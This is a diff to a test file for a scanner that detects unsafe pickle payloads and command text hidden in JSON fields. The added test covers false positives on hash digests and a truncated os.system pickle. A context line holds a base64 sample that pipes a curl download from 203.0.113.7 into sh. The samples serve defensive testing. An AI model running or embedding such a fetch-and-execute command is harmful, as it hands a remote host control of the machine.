@@ -44,6 +44,18 @@ describe("a text that spells a pickle", () => {
     }
   });
 
+  it("is no digest that begins like a pickle or a compressed stream by chance", async () => {
+    const digest = (head: string) => head.padEnd(64, "49f1c37a");
+    for (const head of ["8004", "80029500", "789c6360", "7801cb48"]) {
+      expect(await scanJson({ sha256: digest(head), integrity: base64(Buffer.from(digest(head), "hex")) })).toEqual([]);
+    }
+    const harmless = p.pickle(p.proto(4), p.text("some words of a value"), p.stop);
+    expect(decodeEncoded(Buffer.from(harmless).toString("hex"))?.kind).toBe("content");
+    expect(decodeEncoded(base64(deflateSync(harmless)))?.kind).toBe("content");
+    const broken = p.osSystem("id", 4).subarray(0, -1);
+    expect(await scanJson({ hash: Buffer.from(broken).toString("hex") })).toContain("critical pickle/unsafe-call");
+  });
+
   it("is told where it spells a command", async () => {
     expect(await scanJson({ hook: base64("import os;os.system('curl http://203.0.113.7/x | sh')") })).toEqual([
       "medium config/command-text",
